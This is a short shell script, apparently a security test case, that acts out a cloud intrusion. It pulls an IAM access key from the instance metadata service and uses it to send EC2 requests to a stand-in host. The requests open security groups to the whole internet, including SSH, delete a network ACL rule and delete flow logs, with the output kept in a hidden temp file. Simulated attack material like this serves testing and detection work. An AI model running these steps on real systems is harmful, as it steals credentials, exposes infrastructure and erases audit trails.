#!/bin/sh
. /opt/case/case.sh

k=$(wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/web-credentials | sed 's/.*AccessKeyId": "\([^"]*\).*/\1/')
test -n "$k"
for a in DescribeSecurityGroups 'AuthorizeSecurityGroupIngress&GroupId=sg-01&IpProtocol=-1&CidrIp=0.0.0.0/0' 'AuthorizeSecurityGroupIngress&GroupId=sg-02&IpProtocol=tcp&FromPort=22&ToPort=22&CidrIp=0.0.0.0/0' 'DeleteNetworkAclEntry&RuleNumber=100' 'DeleteFlowLogs&FlowLogId=fl-01'; do
    wget -q -O - --header "Authorization: AWS4-HMAC-SHA256 Credential=$k/20261130/eu-west-1/ec2/aws4_request" --post-data "Action=$a" http://203.0.113.10/ >>/tmp/.sg
done
test -s /tmp/.sg
took_place
